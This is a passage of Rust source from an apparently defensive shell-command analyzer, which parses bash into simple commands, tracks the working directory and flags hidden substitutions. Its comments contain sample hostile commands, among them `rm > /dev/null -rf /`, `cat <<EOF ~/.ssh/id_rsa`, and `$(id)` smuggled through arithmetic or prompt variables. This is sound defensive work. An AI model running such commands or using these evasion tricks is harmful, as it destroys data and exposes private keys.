//! Tree -> plan: the explicit-stack walk over a tree-sitter-bash tree that turns it into
//! this project's own plan of simple commands (words as bash would see them, redirects,
//! effective cwd), plus the facts that decide the class.
//!
//! Owns node-kind dispatch (every kind is named; an unknown kind is an error, never
//! silently skipped), word evaluation (quotes removed, dynamic parts flagged), and cwd
//! tracking through `cd`/`pushd`/`popd` with subshell scoping. It reads the tree's copy
//! (`syntax::Node`), never tree-sitter's nodes. Knows nothing of what commands do (that
//! is `effects`).

use super::syntax::Node;

pub(super) mod text;
use text::{decode_ansi_c, is_fd_target, unescape_double_quoted, unescape_unquoted};

use super::AstError;
use super::kinds::{self as k, KindName};
use crate::model::vocab::AnalysisContext;
use crate::shell::arith;

pub(crate) use crate::shell::ir::{
    Cwd, Function, InlineInput, Opacity, Plan, Redirect, RedirectKind, SimpleCommand, Word,
};

/// Budgets of one walk.
pub(crate) struct Limits {
    pub max_depth: usize,
    pub max_nodes: usize,
}

enum Task<'t> {
    Visit {
        node: Node<'t>,
        depth: usize,
        in_subst: bool,
    },
    /// A command-like node with the redirects of its enclosing `redirected_statement`.
    Command {
        node: Node<'t>,
        redirects: Vec<Node<'t>>,
        depth: usize,
        in_subst: bool,
    },
    /// Redirects that tree-sitter hangs on a whole `list`/`pipeline` but bash binds to
    /// its last command: they open after the commands before them ran.
    LateRedirects {
        redirects: Vec<Node<'t>>,
        depth: usize,
        in_subst: bool,
    },
    /// End of a subshell scope: the cwd (and pushd stack) go back.
    Restore { cwd: Cwd, stack: Vec<Cwd> },
    /// End of a branch or loop: a cd inside makes the cwd unknown afterwards.
    Settle { cwd: Cwd },
    /// Before a statement whose failure does not stop what follows it: remembers the
    /// cwd it starts in (`Merge` takes it back).
    Mark,
    /// After such a statement: a `cd` in it may have failed, so what follows runs in
    /// the directory it moved to or in the one it started in; unknown unless the same.
    Merge,
    /// Between the sides of `a || b`: `b` runs only when `a` failed. A simple command
    /// that failed moved nothing (`cd x || …` runs `…` where the `cd` started); a
    /// failed list or group may have moved before it failed.
    OrElse { simple: bool },
    /// After `a || b`: the cwd `a` left when it succeeded, or the one `b` left.
    OrJoin,
}

struct Walker<'s, 'c> {
    src: &'s str,
    ctx: &'c AnalysisContext,
    plan: Plan,
    cwd: Cwd,
    dir_stack: Vec<Cwd>,
    nodes: usize,
    limits: Limits,
    /// Set when a word nests past the depth bound (words are evaluated recursively).
    too_deep: Option<usize>,
    /// Set when a node range does not fall on character boundaries.
    bad_range: std::cell::Cell<bool>,
    /// `$HOME` and `$PWD` hold what the context says (`context_variables_hold`).
    context_variables: bool,
    /// The cwds `Mark` and `OrElse` remembered, innermost last.
    marks: Vec<Cwd>,
}

/// The variables whose values the decision's context knows: `HOME` (the request's
/// home) and `PWD` (the effective cwd where the word is, as `cd` moves it).
const CONTEXT_VARIABLES: &[&str] = &["HOME", "PWD"];

/// Builtins that can set a variable whose name is not spelled out in the text
/// (`eval 'HO''ME=/x'`, `declare -n r=…`, `printf -v`, `read`, a sourced file), or
/// that change the shell's options or variables wholesale.
const SETTERS: &[&str] = &[
    "eval",
    "source",
    ".",
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "unset",
    "let",
    "read",
    "mapfile",
    "readarray",
    "printf",
    "getopts",
    "set",
    "shopt",
    "alias",
    "enable",
    "builtin",
    "command",
    "trap",
    "exec",
];

/// Whether `$HOME` and `$PWD` in `src` hold what the context says: every expansion in
/// it is one of them (no other `$`, no backquote: no value computed when it runs can
/// reach a name), each name appears only right after a `$` (no `HOME=…`, `read PWD`,
/// `for HOME in …`), and no builtin that sets variables by a computed or quoted name
/// (`SETTERS`) nor an arithmetic or `[[` context (which assign in `x=1`) appears.
/// Word by word this is stricter than bash: a `$` inside single quotes or an `eval`
/// in a string keeps the variables unknown, which only asks more.
pub(crate) fn context_variables_hold(src: &str) -> bool {
    // Without a `$` there is no expansion to give a value to (a name is only read right
    // after one), and the scans below need not run.
    if !src.contains('$') || src.contains('`') || src.contains("((") || src.contains("[[") {
        return false;
    }
    let ident = |c: char| c.is_ascii_alphanumeric() || c == '_';
    let bytes = src.as_bytes();
    for (i, _) in src.match_indices('$') {
        let rest = src.get(i + 1..).unwrap_or("");
        let known = CONTEXT_VARIABLES.iter().any(|n| {
            rest.strip_prefix(n)
                .is_some_and(|after| !after.starts_with(ident))
        });
        if !known {
            return false;
        }
    }
    for name in CONTEXT_VARIABLES {
        for (i, _) in src.match_indices(name) {
            let before = i.checked_sub(1).and_then(|j| bytes.get(j)).copied();
            let after = src.get(i + name.len()..).and_then(|a| a.chars().next());
            let whole = !before.is_some_and(|b| ident(b as char)) && !after.is_some_and(ident);
            if whole && before != Some(b'$') {
                return false;
            }
        }
    }
    !src.split(|c: char| c.is_whitespace() || ";&|(){}<>'\"".contains(c))
        .any(|w| SETTERS.contains(&w))
}

/// Walks `root` (a tree without ERROR/MISSING nodes) into a plan, starting in `cwd`.
/// `context_variables`: `$HOME` and `$PWD` hold the context's values (a command the
/// host's shell runs whose whole text passes `context_variables_hold`).
pub(crate) fn walk(
    root: Node<'_>,
    src: &str,
    ctx: &AnalysisContext,
    cwd: Cwd,
    limits: Limits,
    context_variables: bool,
) -> Result<Plan, AstError> {
    let mut w = Walker {
        src,
        ctx,
        plan: Plan::default(),
        cwd,
        dir_stack: Vec::new(),
        nodes: 0,
        limits,
        too_deep: None,
        bad_range: std::cell::Cell::new(false),
        context_variables,
        marks: Vec::new(),
    };
    let mut stack = vec![Task::Visit {
        node: root,
        depth: 0,
        in_subst: false,
    }];
    while let Some(task) = stack.pop() {
        match task {
            Task::Visit {
                node,
                depth,
                in_subst,
            } => w.visit(node, depth, in_subst, &mut stack)?,
            Task::Command {
                node,
                redirects,
                depth,
                in_subst,
            } => w.command(node, &redirects, depth, in_subst, &mut stack)?,
            Task::LateRedirects {
                redirects,
                depth,
                in_subst,
            } => {
                for r in redirects {
                    w.redirect(r, depth, in_subst, &mut stack, None)?;
                }
            }
            Task::Restore { cwd, stack: dirs } => {
                w.cwd = cwd;
                w.dir_stack = dirs;
            }
            Task::Settle { cwd } => {
                if w.cwd != cwd {
                    w.cwd = Cwd::Unknown;
                    if w.plan.unknown_cwd_after.is_none() {
                        w.plan.unknown_cwd_after =
                            Some("a `cd` inside a branch, loop or function".into());
                    }
                }
            }
            Task::Mark => w.marks.push(w.cwd.clone()),
            Task::Merge => {
                let before = w.marks.pop().unwrap_or(Cwd::Unknown);
                w.join(&before);
            }
            Task::OrElse { simple } => {
                let before = w.marks.last().cloned().unwrap_or(Cwd::Unknown);
                let succeeded = std::mem::replace(&mut w.cwd, before);
                if !simple {
                    w.join(&succeeded);
                }
                w.marks.push(succeeded);
            }
            Task::OrJoin => {
                let succeeded = w.marks.pop().unwrap_or(Cwd::Unknown);
                w.marks.pop();
                w.join(&succeeded);
            }
        }
    }
    if let Some(depth) = w.too_deep {
        return Err(AstError::DepthLimit(depth));
    }
    if w.bad_range.get() {
        return Err(AstError::Analyzer(
            "a syntax node splits a multi-byte character".into(),
        ));
    }
    Ok(w.plan)
}

/// Whether the text before byte `at` of `src` ends with a pipe operator (`|` or `|&`,
/// not `||`): a command starting there is a later stage of a pipeline.
pub(crate) fn after_pipe(src: &str, at: usize) -> bool {
    let before = src
        .get(..at)
        .unwrap_or_default()
        .trim_end_matches([' ', '\t']);
    (before.ends_with('|') && !before.ends_with("||")) || before.ends_with("|&")
}

/// Every child of `node`, named or not, listed once for all that is read from them.
fn children_of(node: Node<'_>) -> Vec<Node<'_>> {
    if node.child_count() == 0 {
        return Vec::new();
    }
    let mut cursor = node.walk();
    node.children(&mut cursor).collect()
}

/// Pushes the named children of `node` so they are visited in source order.
fn push_children<'t>(node: Node<'t>, depth: usize, in_subst: bool, stack: &mut Vec<Task<'t>>) {
    push_named(&children_of(node), depth, in_subst, stack);
}

/// Pushes the named ones of `kids` (a node's children) so they are visited in source
/// order.
fn push_named<'t>(kids: &[Node<'t>], depth: usize, in_subst: bool, stack: &mut Vec<Task<'t>>) {
    stack.extend(
        kids.iter()
            .rev()
            .filter(|k| k.is_named())
            .map(|&child| Task::Visit {
                node: child,
                depth: depth + 1,
                in_subst,
            }),
    );
}

/// Pushes the named ones of `kids` (a node's children: statements run one after the
/// other, each whatever the one before did) so they are visited in source order, each
/// between a `Mark` and a `Merge`: a `cd` that fails leaves the next statement where
/// it was, so after a statement that moved the cwd the next one's cwd is unknown (`cd
/// x; grep -r k .` greps the starting directory when `x` is missing). `cd x && …` keeps
/// `x` within the statement.
fn push_sequence<'t>(kids: &[Node<'t>], depth: usize, in_subst: bool, stack: &mut Vec<Task<'t>>) {
    for &child in kids.iter().rev().filter(|k| k.is_named()) {
        stack.push(Task::Merge);
        stack.push(Task::Visit {
            node: child,
            depth: depth + 1,
            in_subst,
        });
        stack.push(Task::Mark);
    }
}

impl<'s> Walker<'s, '_> {
    /// The cwd where control arrives either from here or from `other`: the same
    /// directory, or unknown.
    fn join(&mut self, other: &Cwd) {
        if self.cwd != *other {
            self.cwd = Cwd::Unknown;
            if self.plan.unknown_cwd_after.is_none() {
                self.plan.unknown_cwd_after =
                    Some("a `cd` that may fail while the commands after it still run".into());
            }
        }
    }

    fn text(&self, node: Node<'_>) -> &'s str {
        match self.src.get(node.byte_range()) {
            Some(t) => t,
            None => {
                // A node edge inside a multi-byte character: the tree does not match
                // the text, so nothing read from it can be trusted.
                self.bad_range.set(true);
                ""
            }
        }
    }

    fn slice(&self, start: usize, end: usize) -> &'s str {
        match self.src.get(start..end) {
            Some(t) => t,
            None => {
                self.bad_range.set(true);
                ""
            }
        }
    }

    fn budget(&mut self, depth: usize) -> Result<(), AstError> {
        self.nodes += 1;
        if depth > self.limits.max_depth {
            return Err(AstError::DepthLimit(depth));
        }
        if self.nodes > self.limits.max_nodes {
            return Err(AstError::TooManyNodes(self.nodes));
        }
        Ok(())
    }

    /// Anonymous separator tokens directly under a statement container (`kids`: its
    /// children).
    fn note_separators(&mut self, kids: &[Node<'_>]) {
        for child in kids {
            if child.is_named() {
                continue;
            }
            match child.kind_name() {
                "&" => {
                    self.plan.background = true;
                    self.plan.compound("&");
                }
                "&&" => self.plan.compound("&&"),
                "||" => self.plan.compound("||"),
                "|" => self.plan.compound("|"),
                "|&" => self.plan.compound("|&"),
                _ => {}
            }
        }
    }

    fn visit<'t>(
        &mut self,
        node: Node<'t>,
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
    ) -> Result<(), AstError> {
        self.budget(depth)?;
        match node.kind_name() {
            k::PROGRAM => {
                let kids = children_of(node);
                self.note_separators(&kids);
                push_sequence(&kids, depth, in_subst, stack);
            }
            k::COMMENT
            | k::HEREDOC_START
            | k::HEREDOC_END
            | k::HEREDOC_CONTENT
            | k::FILE_DESCRIPTOR
            | k::VARIABLE_NAME
            | k::SPECIAL_VARIABLE_NAME
            | k::WORD
            | k::NUMBER
            | k::RAW_STRING
            | k::ANSI_C_STRING
            | k::STRING_CONTENT
            | k::REGEX
            | k::EXTGLOB_PATTERN
            | k::TEST_OPERATOR => {}
            k::LIST => {
                let kids = children_of(node);
                self.note_separators(&kids);
                self.list(&kids, depth, in_subst, stack);
            }
            k::PIPELINE => {
                let kids = children_of(node);
                self.note_separators(&kids);
                self.plan.compound("|");
                // Every element of a pipeline runs in a subshell of its own, started
                // where the pipeline starts: a `cd` in one moves none of the others.
                for &element in kids.iter().rev().filter(|k| k.is_named()) {
                    stack.push(Task::Restore {
                        cwd: self.cwd.clone(),
                        stack: self.dir_stack.clone(),
                    });
                    stack.push(Task::Visit {
                        node: element,
                        depth: depth + 1,
                        in_subst,
                    });
                }
            }
            k::SUBSHELL => {
                self.plan.compound("( )");
                let kids = children_of(node);
                self.note_separators(&kids);
                stack.push(Task::Restore {
                    cwd: self.cwd.clone(),
                    stack: self.dir_stack.clone(),
                });
                push_sequence(&kids, depth, in_subst, stack);
            }
            k::COMPOUND_STATEMENT if self.text(node).starts_with("((") => {
                // `(( ))` expands its whole expression before it evaluates it, quotes
                // or not: `(( '$(id)' ))` runs `id`.
                self.plan.compound("{ }");
                self.arithmetic_strings(node, true);
                push_children(node, depth, in_subst, stack);
            }
            k::COMPOUND_STATEMENT => {
                self.plan.compound("{ }");
                let kids = children_of(node);
                self.note_separators(&kids);
                push_sequence(&kids, depth, in_subst, stack);
            }
            k::IF_STATEMENT
            | k::WHILE_STATEMENT
            | k::FOR_STATEMENT
            | k::C_STYLE_FOR_STATEMENT
            | k::CASE_STATEMENT
            | k::FUNCTION_DEFINITION => {
                self.plan.compound(match node.kind_name() {
                    k::IF_STATEMENT => "if",
                    k::WHILE_STATEMENT => "while",
                    k::FOR_STATEMENT | k::C_STYLE_FOR_STATEMENT => "for",
                    k::CASE_STATEMENT => "case",
                    _ => "function",
                });
                if node.kind_name() == k::FUNCTION_DEFINITION
                    && let (Some(name), Some(body)) = (
                        node.child_by_field_name(k::FIELD_NAME),
                        node.child_by_field_name(k::FIELD_BODY),
                    )
                {
                    let name = self.text(name).to_string();
                    self.plan.functions.push(Function {
                        name,
                        body: body.byte_range(),
                    });
                }
                let kids = children_of(node);
                self.note_separators(&kids);
                stack.push(Task::Settle {
                    cwd: self.cwd.clone(),
                });
                push_sequence(&kids, depth, in_subst, stack);
            }
            k::ELIF_CLAUSE | k::ELSE_CLAUSE | k::DO_GROUP | k::CASE_ITEM => {
                let kids = children_of(node);
                self.note_separators(&kids);
                push_sequence(&kids, depth, in_subst, stack);
            }
            k::NEGATED_COMMAND => {
                // `! cd x && …` runs `…` when the `cd` failed: after `!`, the cwd is
                // where it started or where the command moved it.
                let kids = children_of(node);
                self.note_separators(&kids);
                stack.push(Task::Merge);
                push_named(&kids, depth, in_subst, stack);
                stack.push(Task::Mark);
            }
            k::REDIRECTED_STATEMENT => {
                let mut redirects = Vec::new();
                let mut body = None;
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    match child.kind_name() {
                        k::FILE_REDIRECT | k::HEREDOC_REDIRECT | k::HERESTRING_REDIRECT => {
                            redirects.push(child)
                        }
                        _ if body.is_none() => body = Some(child),
                        _ => stack.push(Task::Visit {
                            node: child,
                            depth: depth + 1,
                            in_subst,
                        }),
                    }
                }
                match body {
                    Some(b) if is_command_like(b.kind_name()) => {
                        stack.push(Task::Command {
                            node: b,
                            redirects,
                            depth: depth + 1,
                            in_subst,
                        });
                    }
                    Some(b) if b.kind_name() == k::LIST || b.kind_name() == k::PIPELINE => {
                        stack.push(Task::LateRedirects {
                            redirects,
                            depth: depth + 1,
                            in_subst,
                        });
                        stack.push(Task::Visit {
                            node: b,
                            depth: depth + 1,
                            in_subst,
                        });
                    }
                    Some(b) => {
                        // Redirects of a group or loop open before it runs, in today's cwd.
                        for r in redirects {
                            self.redirect(r, depth + 1, in_subst, stack, None)?;
                        }
                        stack.push(Task::Visit {
                            node: b,
                            depth: depth + 1,
                            in_subst,
                        });
                    }
                    None => {
                        for r in redirects {
                            self.redirect(r, depth + 1, in_subst, stack, None)?;
                        }
                    }
                }
            }
            kind if is_command_like(kind) => {
                stack.push(Task::Command {
                    node,
                    redirects: Vec::new(),
                    depth,
                    in_subst,
                });
            }
            k::FILE_REDIRECT | k::HEREDOC_REDIRECT | k::HERESTRING_REDIRECT => {
                self.redirect(node, depth, in_subst, stack, None)?;
            }
            k::COMMAND_SUBSTITUTION | k::PROCESS_SUBSTITUTION => {
                self.plan
                    .obfuscated(Opacity::Substitution(describe_subst(node.kind_name())));
                // Inside backticks bash drops the backslash before `` ` ``, `$` and `\`
                // and parses the text again: ``ls `echo \`id\``` runs `id`, which the
                // grammar reads as data. That text is read as code too.
                let raw = self.text(node);
                if let Some(inner) = raw.strip_prefix('`').filter(|_| raw.contains('\\')) {
                    let inner = inner.strip_suffix('`').unwrap_or(inner);
                    for code in heredoc_backticks(&format!("`{inner}`")) {
                        self.plan.code.push((code, self.cwd.clone()));
                    }
                }
                stack.push(Task::Restore {
                    cwd: self.cwd.clone(),
                    stack: self.dir_stack.clone(),
                });
                push_sequence(&children_of(node), depth, true, stack);
            }
            k::ARITHMETIC_EXPANSION | k::EXPANSION => {
                self.plan
                    .obfuscated(Opacity::Substitution(describe_subst(node.kind_name())));
                push_children(node, depth, in_subst, stack);
            }
            k::STRING
            | k::TRANSLATED_STRING
            | k::CONCATENATION
            | k::SIMPLE_EXPANSION
            | k::BRACE_EXPRESSION
            | k::BINARY_EXPRESSION
            | k::UNARY_EXPRESSION
            | k::POSTFIX_EXPRESSION
            | k::PARENTHESIZED_EXPRESSION
            | k::TERNARY_EXPRESSION
            | k::HEREDOC_BODY
            | k::COMMAND_NAME => {
                push_children(node, depth, in_subst, stack);
            }
            k::SUBSCRIPT => {
                // An indexed array's subscript is arithmetic on its expanded text:
                // `a['$(id)']=1` and `${a['$(id)']}` run `id`.
                if let Some(index) = node.child_by_field_name("index") {
                    self.arithmetic_strings(index, true);
                }
                push_children(node, depth, in_subst, stack);
            }
            k::ARRAY => {
                // `a=(['$(id)']=1)`: each `[KEY]=` is a subscript.
                let mut cursor = node.walk();
                let elements: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                for el in elements {
                    if self.text(el).starts_with('[') {
                        self.arithmetic_strings(el, true);
                    }
                }
                push_children(node, depth, in_subst, stack);
            }
            other => return Err(AstError::UnknownNode(other.to_string())),
        }
        Ok(())
    }

    /// Records one redirect: on `cmd` when given, else as a loose redirect in today's cwd.
    fn redirect<'t>(
        &mut self,
        node: Node<'t>,
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
        cmd: Option<&mut SimpleCommand>,
    ) -> Result<(), AstError> {
        let (found, extra_words) = self.redirect_parts(node, depth, in_subst, stack)?;
        match cmd {
            Some(c) => {
                c.words.extend(extra_words);
                for (r, heredoc) in found {
                    c.heredoc |= heredoc;
                    c.redirects.push(r);
                }
            }
            None => {
                // `a | b <<EOF x`: bash gives `x` to `b`; the grammar hangs the redirect
                // on the whole pipeline, where the walk has no command to give it to.
                if let Some(w) = extra_words.first() {
                    return Err(AstError::Parse(format!(
                        "`{}` after a redirect at byte {} is an argument for bash, of a command the grammar does not attach it to",
                        w.text,
                        node.start_byte()
                    )));
                }
                for (r, _) in found {
                    self.plan.loose_redirects.push((r, self.cwd.clone()));
                }
            }
        }
        Ok(())
    }

    /// One redirect read: what it redirects (with whether it feeds text inline), and the
    /// words written after it that bash gives the command as arguments (`rm > /dev/null
    /// -rf /`, `cat <<EOF ~/.ssh/id_rsa`).
    fn redirect_parts<'t>(
        &mut self,
        node: Node<'t>,
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
    ) -> Result<RedirectParts, AstError> {
        self.budget(depth)?;
        let mut found: Vec<(Redirect, bool)> = Vec::new();
        let mut extra_words: Vec<Word> = Vec::new();
        match node.kind_name() {
            k::FILE_REDIRECT => {
                let op = operator_of(node, self.src);
                // `rm > /dev/null -rf /`: words after the first destination are
                // arguments of the command, not part of the target.
                let target = node
                    .child_by_field_name(k::FIELD_DESTINATION)
                    .map(|d| self.word(d, depth + 1, in_subst, stack));
                for extra in extra_destinations(node, self.src) {
                    let w = self.word(extra, depth + 1, in_subst, stack);
                    extra_words.push(w);
                }
                let fd_target = target.as_ref().is_none_or(|t| is_fd_target(&t.text));
                let fd = descriptor(node, self.src);
                let kind = match op.as_str() {
                    "<" => RedirectKind::Read,
                    "<>" => RedirectKind::ReadWrite,
                    ">&" | "<&" if fd_target => RedirectKind::Duplicate,
                    // `<&FILE` and `2>&FILE` open no file: bash reports an ambiguous
                    // redirect (only `>&FILE` and `1>&FILE` write FILE).
                    "<&" => RedirectKind::Duplicate,
                    ">&" if fd.is_some_and(|d| d != "1") => RedirectKind::Duplicate,
                    ">&-" | "<&-" => RedirectKind::Duplicate,
                    // `>`, `>>`, `>|`, `&>`, `&>>` and `>&FILE` all open a file for writing.
                    _ => RedirectKind::Write,
                };
                found.push((
                    Redirect {
                        kind,
                        target,
                        input: None,
                    },
                    false,
                ));
            }
            k::HERESTRING_REDIRECT => {
                let mut cursor = node.walk();
                let kids: Vec<Node<'t>> = node.named_children(&mut cursor).collect();
                let mut input = None;
                for child in kids {
                    if child.kind_name() != k::FILE_DESCRIPTOR {
                        let w = self.word(child, depth + 1, in_subst, stack);
                        input = Some(InlineInput {
                            text: format!("{}\n", w.text),
                            dynamic: w.dynamic,
                        });
                    }
                }
                found.push((
                    Redirect {
                        kind: RedirectKind::Inline,
                        target: None,
                        input,
                    },
                    true,
                ));
            }
            k::HEREDOC_REDIRECT => {
                let mut cursor = node.walk();
                let kids: Vec<Node<'t>> = node.named_children(&mut cursor).collect();
                // A quoted delimiter (`<<'EOF'`, `<<"EOF"`, `<<\EOF`) keeps the body
                // data; otherwise its substitutions run when the command runs.
                let quoted = kids.iter().any(|c| {
                    c.kind_name() == k::HEREDOC_START && self.text(*c).contains(['\'', '"', '\\'])
                });
                // The body as the command reads it. `<<-` strips leading tabs, and an
                // unquoted body with `$`, backticks or backslashes changes when it runs.
                let strip_tabs = self.text(node).starts_with("<<-");
                let input = kids
                    .iter()
                    .find(|c| c.kind_name() == k::HEREDOC_BODY)
                    .map(|b| {
                        let raw = self.text(*b);
                        let text: String = if strip_tabs {
                            raw.split_inclusive('\n')
                                .map(|l| l.trim_start_matches('\t'))
                                .collect()
                        } else {
                            raw.to_string()
                        };
                        InlineInput {
                            dynamic: !quoted && raw.contains(['$', '`', '\\']),
                            text,
                        }
                    });
                found.push((
                    Redirect {
                        kind: RedirectKind::Inline,
                        target: None,
                        input,
                    },
                    true,
                ));
                for child in kids {
                    match child.kind_name() {
                        k::HEREDOC_BODY if quoted => {}
                        k::HEREDOC_BODY => {
                            // The grammar parses `$( )` and `${ }` in a body, but not
                            // backticks: those are found here and parsed as code.
                            for code in heredoc_backticks(self.text(child)) {
                                self.plan.obfuscated(Opacity::Substitution(
                                    "command substitution in a here-document",
                                ));
                                self.plan.code.push((code, self.cwd.clone()));
                            }
                            push_children(child, depth, in_subst, stack)
                        }
                        k::FILE_REDIRECT | k::HERESTRING_REDIRECT => {
                            // Redirects written after `<<EOF` on the same line.
                            let (more, words) =
                                self.redirect_parts(child, depth + 1, in_subst, stack)?;
                            found.extend(more);
                            extra_words.extend(words);
                        }
                        k::HEREDOC_START | k::HEREDOC_END | k::FILE_DESCRIPTOR => {}
                        // `cat <<EOF ~/.ssh/id_rsa`: a word after the delimiter is an
                        // argument of the command (the grammar hangs it here).
                        kind if is_word_kind(kind) => {
                            let w = self.word(child, depth + 1, in_subst, stack);
                            extra_words.push(w);
                        }
                        _ => {
                            // `cat <<EOF | grep x`, `cat <<EOF && ls`: a further statement.
                            self.plan.compound("heredoc pipeline");
                            stack.push(Task::Visit {
                                node: child,
                                depth: depth + 1,
                                in_subst,
                            });
                        }
                    }
                }
            }
            other => return Err(AstError::UnknownNode(other.to_string())),
        }
        Ok((found, extra_words))
    }

    fn command<'t>(
        &mut self,
        node: Node<'t>,
        redirects: &[Node<'t>],
        depth: usize,
        in_subst: bool,
        stack: &mut Vec<Task<'t>>,
    ) -> Result<(), AstError> {
        self.budget(depth)?;
        let (forks, conditional) = forks_and_condition(node);
        let mut cmd = SimpleCommand {
            assignments: Vec::new(),
            words: Vec::new(),
            redirects: Vec::new(),
            text: String::new(),
            cwd: self.cwd.clone(),
            heredoc: false,
            forks,
            conditional,
            start: node.start_byte(),
            piped_from: piped_from(node),
        };
        let kind = node.kind_name();
        if kind == k::TEST_COMMAND {
            self.test_operands(node);
        }
        let mut cursor = node.walk();
        let children: Vec<Node<'t>> = node.children(&mut cursor).collect();
        // `declare -i x=V`, `local -n r=V`: the value is arithmetic, or a name whose
        // subscript is, when it is assigned or used.
        let numeric = kind == k::DECLARATION_COMMAND
            && children.iter().any(|c| {
                c.kind_name() == k::WORD && {
                    let t = self.text(*c);
                    t.starts_with(['-', '+']) && t.contains(['i', 'n'])
                }
            });
        for child in children {
            match child.kind_name() {
                k::VARIABLE_ASSIGNMENT => {
                    self.assignment_value(child, numeric);
                    let w = self.word(child, depth + 1, in_subst, stack);
                    cmd.assignments.push(w);
                }
                k::VARIABLE_ASSIGNMENTS => {
                    let mut c2 = child.walk();
                    let kids: Vec<Node<'t>> = child.named_children(&mut c2).collect();
                    for a in kids {
                        self.assignment_value(a, numeric);
                        let w = self.word(a, depth + 1, in_subst, stack);
                        cmd.assignments.push(w);
                    }
                }
                k::FILE_REDIRECT | k::HERESTRING_REDIRECT | k::HEREDOC_REDIRECT => {
                    self.redirect(child, depth + 1, in_subst, stack, Some(&mut cmd))?;
                }
                k::COMMAND_NAME => {
                    let w = self.word(child, depth + 1, in_subst, stack);
                    if w.dynamic || w.pattern {
                        self.plan.obfuscated(Opacity::Other(format!(
                            "has a command name, `{}`, that is not a literal word",
                            w.text
                        )));
                    }
                    cmd.words.push(w);
                }
                k::COMMENT => {}
                k::SUBSHELL => stack.push(Task::Visit {
                    node: child,
                    depth: depth + 1,
                    in_subst,
                }),
                _ if !child.is_named() => {
                    // Keywords of declaration/unset/test commands are words too.
                    if kind != k::COMMAND
                        && kind != k::VARIABLE_ASSIGNMENT
                        && kind != k::VARIABLE_ASSIGNMENTS
                    {
                        cmd.words.push(Word {
                            text: self.text(child).to_string(),
                            dynamic: false,
                            pattern: false,
                            braces: false,
                            start: child.start_byte(),
                        });
                    }
                }
                _ if kind == k::VARIABLE_ASSIGNMENT => {
                    // A standalone assignment: its value may hold a substitution.
                    if node.child_by_field_name(k::FIELD_VALUE) == Some(child) {
                        self.assignment_value(node, false);
                    }
                    let _ = self.word(child, depth + 1, in_subst, stack);
                }
                // `cat 0< f`: the `0` is the redirect's descriptor for bash.
                _ if glued_descriptor(child, self.src).is_some() => {}
                _ => {
                    let w = self.word(child, depth + 1, in_subst, stack);
                    cmd.words.push(w);
                }
            }
        }
        if kind == k::VARIABLE_ASSIGNMENT {
            cmd.assignments.push(Word {
                text: self.text(node).to_string(),
                dynamic: false,
                pattern: false,
                braces: false,
                start: node.start_byte(),
            });
        }
        for r in redirects {
            self.redirect(*r, depth + 1, in_subst, stack, Some(&mut cmd))?;
        }
        cmd.text = subject(&cmd);
        if !in_subst {
            self.plan.statements += 1;
        }
        self.track_cwd(&cmd);
        self.plan.commands.push(cmd);
        Ok(())
    }

    /// The code bash runs when it evaluates the strings in `node` as arithmetic
    /// (`shell::arith`). With `any` false, only when an array subscript holds a
    /// substitution (a string operand is not expanded, only its subscripts are).
    fn arithmetic_strings(&mut self, node: Node<'_>, any: bool) {
        if !any && !arith::runs_in_subscript(&arith::dequote(self.text(node))) {
            return;
        }
        self.expanded_again(node, "is evaluated as arithmetic");
    }

    /// The substitutions in the parts of `node` the grammar took as data (quoted
    /// strings, escaped `\$(`), which bash expands once more (`why`), read again as
    /// code; the command is then obfuscated.
    fn expanded_again(&mut self, node: Node<'_>, why: &str) {
        let mut found = Vec::new();
        let mut stack = vec![node];
        while let Some(n) = stack.pop() {
            let piece = match n.kind_name() {
                k::RAW_STRING => Some(arith::dequote(self.text(n))),
                k::STRING_CONTENT | k::WORD => {
                    let t = self.text(n);
                    t.contains('\\').then(|| arith::dequote(t))
                }
                k::ANSI_C_STRING => {
                    let mut decoded = String::new();
                    decode_ansi_c(self.text(n), &mut decoded);
                    Some(decoded)
                }
                _ => None,
            };
            match piece {
                Some(p) => found.extend(arith::substitutions(&p)),
                None => {
                    let mut cursor = n.walk();
                    stack.extend(n.named_children(&mut cursor));
                }
            }
        }
        if found.is_empty() {
            return;
        }
        self.plan.obfuscated(Opacity::Other(format!(
            "holds `{}`, which {why}: the command substitution in it runs",
            self.text(node)
        )));
        for code in found {
            self.plan.code.push((code, self.cwd.clone()));
        }
    }

    /// `[[ -v NAME ]]` and the operands of `-eq`, `-ne`, `-lt`, `-le`, `-gt`, `-ge` are
    /// evaluated as arithmetic; string comparisons are not.
    fn test_operands(&mut self, node: Node<'_>) {
        let mut stack = vec![node];
        while let Some(n) = stack.pop() {
            let mut cursor = n.walk();
            let kids: Vec<Node<'_>> = n.named_children(&mut cursor).collect();
            let arithmetic = match n.kind_name() {
                k::UNARY_EXPRESSION | k::BINARY_EXPRESSION => kids.iter().any(|c| {
                    c.kind_name() == k::TEST_OPERATOR
                        && matches!(
                            self.text(*c),
                            "-v" | "-eq" | "-ne" | "-lt" | "-le" | "-gt" | "-ge"
                        )
                }),
                _ => false,
            };
            for c in kids {
                if arithmetic && c.kind_name() != k::TEST_OPERATOR {
                    self.arithmetic_strings(c, false);
                } else {
                    stack.push(c);
                }
            }
        }
    }

    /// Values that are code later, although quoted now:
    /// - with `numeric` (`declare -i x=V`, `local -n r=V`) the value is arithmetic, or
    ///   a name whose subscript is, as soon as it is assigned or used;
    /// - `PS0`…`PS4` are expanded, substitutions included, when the shell prompts or
    ///   traces (`PS4='$(id)'; set -x; :` runs `id`), and `PROMPT_COMMAND` is run;
    /// - otherwise `x='a[$(id)]'` is harmless until `x` is used as a number (`(( x ))`,
    ///   `[[ x -eq 1 ]]`, `a[x]`, a `declare -i x` earlier), which runs the
    ///   substitution. Whether it is used so is the evaluator's to know: opaque.
    fn assignment_value(&mut self, assignment: Node<'_>, numeric: bool) {
        if assignment.kind_name() != k::VARIABLE_ASSIGNMENT {
            return;
        }
        let Some(value) = assignment.child_by_field_name(k::FIELD_VALUE) else {
            return;
        };
        let name = assignment
            .child_by_field_name(k::FIELD_NAME)
            .map(|n| self.text(n))
            .unwrap_or_default();
        if numeric {
            self.arithmetic_strings(value, false);
        } else if matches!(name, "PS0" | "PS1" | "PS2" | "PS3" | "PS4") {
            self.expanded_again(
                value,
                "is a prompt, expanded again when the shell prompts or traces",
            );
        } else if name == "PROMPT_COMMAND" {
            let code = arith::dequote(self.text(value));
